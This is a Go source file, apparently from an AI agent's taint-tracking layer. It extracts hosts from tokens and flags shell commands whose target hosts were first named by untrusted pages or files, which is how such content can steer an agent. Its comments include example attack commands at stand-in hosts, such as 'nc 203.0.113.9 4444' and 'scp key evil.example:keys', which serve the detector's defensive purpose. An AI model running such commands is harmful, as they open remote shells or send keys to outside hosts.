package lineage

import (
	"cmp"
	"net/netip"
	"slices"
	"strings"
	"unicode"
)

// remoteHost returns the host a token names on the network, and whether
// it names one: a URL with a scheme (https://evil.example/x, not file://),
// an address at a host (mallory@evil.example, git@evil.example:x.git), or
// a host followed by a path (evil.example/boot.sh, github.com/x/y,
// 203.0.113.9/x). A dotted word alone is not one: evil.example and
// manage.py, install.sh or notes.md look alike, and a file's name is what
// a page mentions far more often. t is a token as each emits it:
// lower-cased, no connector at either end.
func remoteHost(t string) (string, bool) {
	host, ok := networkHost(t)
	if !ok || loopback(host) {
		// localhost, 127.0.0.1, [::1], 0.0.0.0: the user's own machine,
		// which a page's setup steps name as often as a project's.
		return "", false
	}
	return host, true
}

// networkHost is remoteHost before the user's own machine is left out.
func networkHost(t string) (string, bool) {
	if ipv6(t) {
		// A URL's [2001:db8::7] loses its brackets to the tokenizer. No
		// file's name parses as one.
		return t, true
	}
	if scheme, rest, ok := strings.Cut(t, "://"); ok {
		if scheme == "" || scheme == "file" {
			return "", false
		}
		host := rest
		if i := strings.IndexAny(host, "/?#"); i >= 0 {
			host = host[:i]
		}
		if at := strings.LastIndexByte(host, '@'); at >= 0 {
			host = host[at+1:]
		}
		host = withoutPort(host)
		return host, host != ""
	}
	if at := strings.LastIndexByte(t, '@'); at > 0 {
		host := t[at+1:]
		if i := strings.IndexAny(host, ":/"); i >= 0 {
			host = host[:i]
		}
		if host = strings.TrimSuffix(host, "."); hostLike(host) {
			return host, true
		}
		// Not an address: a version after a module's or a package's
		// path (github.com/x/y@v1.2.3) is read as below.
	}
	if i := strings.IndexByte(t, '/'); i > 0 {
		if host := withoutPort(t[:i]); hostLike(host) {
			return host, true
		}
	}
	return "", false
}

// ipv6 reports whether t is an IPv6 address.
func ipv6(t string) bool {
	if strings.Count(t, ":") < 2 || !strings.ContainsFunc(t, unicode.IsDigit) {
		return false
	}
	a, err := netip.ParseAddr(t)
	return err == nil && a.Is6()
}

// withoutPort is host without a :port after it, and without the dot that
// may end a fully qualified name (evil.example./x is evil.example).
func withoutPort(host string) string {
	if i := strings.LastIndexByte(host, ':'); i >= 0 && !strings.Contains(host[i+1:], ".") {
		host = host[:i]
	}
	return strings.TrimSuffix(host, ".")
}

// loopback reports whether host is this machine: localhost (or a name
// under .localhost), the name a container reaches its host by
// (host.docker.internal, Podman's host.containers.internal), a loopback or
// an unspecified address.
func loopback(host string) bool {
	switch {
	case host == "localhost" || strings.HasSuffix(host, ".localhost"),
		host == "host.docker.internal" || host == "host.containers.internal":
		return true
	}
	if !numeric(host) && !strings.Contains(host, ":") {
		return false
	}
	a, err := netip.ParseAddr(host)
	return err == nil && (a.Unmap().IsLoopback() || a.IsUnspecified())
}

// hostLike reports whether s reads as a host name or an IPv4 address: two
// or more labels of letters, digits and hyphens, the last one of letters
// (two at least) or an A-label (xn--…); or four numbers.
func hostLike(s string) bool {
	if numeric(s) {
		a, err := netip.ParseAddr(s)
		return err == nil && a.Is4()
	}
	labels, last := 0, ""
	for l := range strings.SplitSeq(s, ".") {
		if l == "" || strings.ContainsFunc(l, func(r rune) bool { return r != '-' && !unicode.IsLetter(r) && !unicode.IsDigit(r) }) {
			return false
		}
		labels, last = labels+1, l
	}
	return labels >= 2 && topLabel(last)
}

// numeric reports whether s is made of digits and dots only: an IPv4
// address, or a version, which netip is asked about only then (its error
// is an allocation a host name need not pay).
func numeric(s string) bool {
	return s != "" && !strings.ContainsFunc(s, func(r rune) bool { return r != '.' && (r < '0' || r > '9') })
}

// valueHosts are the hosts the value's tokens name on the network (with
// and without a leading www.): a token of a value that is only such a
// host — the model kept a page's host and changed its path — reaches it
// as much as the page's URL would.
func valueHosts(toks []tok) []string {
	var hosts []string
	for _, t := range toks {
		if t.k != matter {
			continue
		}
		if h, ok := remoteHost(t.text); ok {
			hosts = append(hosts, h)
			if bare, ok := strings.CutPrefix(h, "www."); ok {
				hosts = append(hosts, bare)
			}
		}
	}
	return hosts
}

// placeTok is a place a content named: a token (host, the hash of the
// host it names) or a host (host 0); spare for a host written alone.
type placeTok struct {
	hash, host uint64
	spare      bool
}

// appendPlace appends to places the hash h of token t when t names a place
// on the network, and its host's (with and without a leading www.): a
// value that keeps a page's host and changes the path reaches it too. A
// dotted word alone (get.evil.example, but install.sh alike) is a spare
// place: a host only when a command gives it a program that connects to
// it (HostNamed), kept while there is room.
func appendPlace(places []placeTok, t string, h uint64) []placeTok {
	host, ok := remoteHost(t)
	if !ok {
		if hostLike(t) && !loopback(t) {
			places = append(places, placeTok{hash: h, spare: true})
		}
		return places
	}
	hh := hashOf(host)
	places = append(places, placeTok{hash: h, host: hh}, placeTok{hash: hh})
	if bare, ok := strings.CutPrefix(host, "www."); ok {
		places = append(places, placeTok{hash: hashOf(bare)})
	}
	return places
}

// addPlaces keeps the places a content src (at slot id once given) named,
// those not named before (AddUntrusted filters them): a URL or an address
// whose host is a place too is spare (spareEntry), as is a dotted word
// alone, and spares give their room to the others once it runs out, so a
// session's pages fill the places by their hosts, not by their links; the
// places are full (PlacesFull) only when what is not spare does not fit.
func (ix *Index) addPlaces(places []placeTok, source func() uint8) {
	var hosts []uint64
	for _, p := range places {
		if p.host == 0 && !p.spare {
			hosts = append(hosts, p.hash)
		}
	}
	slices.Sort(hosts)
	hostKept := func(hh uint64) bool {
		_, named := slices.BinarySearch(hosts, hh)
		return named || ix.keptPlace(hh)
	}
	cand := make([]entry, 0, len(places))
	for _, p := range places {
		e := entry{hash: p.hash}
		if p.spare || p.host != 0 && hostKept(p.host) {
			e.src = spareEntry
		}
		cand = append(cand, e)
	}
	// Sorted by hash, one entry a hash, not spare if any is not.
	slices.SortFunc(cand, func(a, b entry) int { return cmp.Or(cmp.Compare(a.hash, b.hash), cmp.Compare(a.src, b.src)) })
	cand = slices.CompactFunc(cand, func(a, b entry) bool { return a.hash == b.hash })
	for _, e := range cand {
		// A spare place named again as a host (a word alone, then a
		// link's host) is kept as the host.
		if i, found := slices.BinarySearchFunc(ix.places, e.hash, func(p entry, h uint64) int { return cmp.Compare(p.hash, h) }); found && e.src&spareEntry == 0 {
			ix.places[i].src &^= spareEntry
		}
	}
	isNew := func(e entry) bool { return !ix.isPlace(e.hash) }
	if len(ix.places)+countFunc(cand, isNew) > MaxPlaces {
		spare := func(e entry) bool { return e.src&spareEntry != 0 }
		ix.places = slices.DeleteFunc(ix.places, spare)
		cand = slices.DeleteFunc(cand, spare)
	}
	hs := make([]uint64, len(cand))
	for i, e := range cand {
		hs[i] = e.hash
	}
	var full bool
	ix.places, full = mergeNew(ix.places, hs, MaxPlaces-len(ix.places), func(e entry) uint64 { return e.hash },
		func(h uint64) entry {
			i, _ := slices.BinarySearchFunc(cand, h, func(e entry, h uint64) int { return cmp.Compare(e.hash, h) })
			return entry{hash: h, src: source() | cand[i].src&spareEntry}
		})
	ix.PlacesFull = ix.PlacesFull || full
}

func countFunc[E any](s []E, f func(E) bool) int {
	n := 0
	for _, e := range s {
		if f(e) {
			n++
		}
	}
	return n
}

// placeIn returns, once the index is full, a token of value text s seen
// nowhere among the untrusted tokens kept that names a place content which
// set a taint label named first (Index.places) — itself, or its host —
// or, once the places are full too, any such token; with the slot of that
// content (-1: none known). Not a place the user wrote, or one the
// model's own call carried first. A session whose room went to its
// project's files so still knows the places a page named later.
func (ix *Index) placeIn(s string) (tok string, src int, ok bool) {
	if !ix.Full || len(ix.places) == 0 && !ix.PlacesFull {
		// With room, every token of a content is kept, and Classify
		// traces it (its first content's Taints) as any other.
		return "", 0, false
	}
	each(normal(s), func(t string, h uint64, k kind) {
		if ok || k != matter {
			return
		}
		host, remote := remoteHost(t)
		if _, seen := ix.untrustedSource(h); !remote || seen || ix.isTrusted(h) || ix.isOwn(h) {
			// Kept, it is traced as it was first seen.
			return
		}
		for _, c := range [...]string{"", host, strings.TrimPrefix(host, "www.")} {
			ch := h
			if c != "" {
				// A host the user wrote, or approved a call reaching
				// (Approve), since the page named it is theirs, as
				// with room: its token is trusted. The page's own URL
				// at it still is a place (spare, while room lasts).
				if ch = hashOf(c); ix.isTrusted(ch) {
					continue
				}
			}
			if i, found := ix.place(ch); found {
				tok, src, ok = t, i, true
				return
			}
		}
		if ix.PlacesFull {
			tok, src, ok = t, -1, true
		}
	})
	return tok, src, ok
}

// HostNamed traces a host a command gives a program that connects to it
// (shellcmd.Hosts: curl get.evil.example, nc 203.0.113.9 4444, scp key
// evil.example:keys), which Classify does not count a place by its token
// alone: a dotted word reads as a file's name as well (install.sh), and
// the program's reading tells them apart. It is one when content that set
// a taint label named it first — as a word, or as the host of a link
// (kept apart as a place once the index is full) — and neither the user
// wrote or approved it nor the model's own call carried it first; with
// its token, as the value's lineage cites it, and the slot of that
// content (-1: none known, the places being full). Not this machine
// (localhost, loopback addresses).
func (ix *Index) HostNamed(host string) (tok string, src int, ok bool) {
	n := strings.TrimSuffix(normal(host), ".")
	if !hostLike(n) && !ipv6(n) || loopback(n) {
		return "", 0, false
	}
	h, found := uint64(0), false
	each(n, func(t string, th uint64, k kind) {
		if !found && k == matter && t == n {
			h, found = th, true
		}
	})
	if !found || ix.isTrusted(h) || ix.isOwn(h) {
		return "", 0, false
	}
	if s, seen := ix.untrustedSource(h); seen {
		s, taints := sourceTaints(s)
		return n, s, taints
	}
	if !ix.Full {
		return "", 0, false
	}
	if i, isPlace := ix.place(h); isPlace {
		return n, i, true
	}
	return n, -1, ix.PlacesFull
}

// Dialed is l, a value's lineage, with the hosts its command gives a
// program that connects to them (shellcmd.Hosts) traced by HostNamed: one
// a tainting content named first makes the value untrusted and remote, an
// identifier, citing the host and that content.
func (ix *Index) Dialed(l Lineage, hosts []string) Lineage {
	for _, h := range hosts {
		tok, src, ok := ix.HostNamed(h)
		if !ok {
			continue
		}
		if l.Origin != FromUntrusted {
			// The host alone is the content's; the command around it is
			// not what a page the user pointed at wrote.
			l.Origin, l.Named, l.Pointed = FromUntrusted, false, false
		}
		l.Pointed = l.Pointed && ix.pointedSlot(src)
		l.Remote = true
		if l.Evidence.rank() < Identifier.rank() {
			l.Evidence = Identifier
		}
		if tok = clipTo(tok, maxEvidenceToken); !slices.Contains(l.Tokens, tok) && len(l.Tokens) < maxEvidence {
			l.Tokens = append(l.Tokens, tok)
		}
		if src >= 0 && !slices.Contains(l.Sources, src) && len(l.Sources) < maxEvidence {
			l.Sources = append(l.Sources, src)
		}
	}
	return l
}
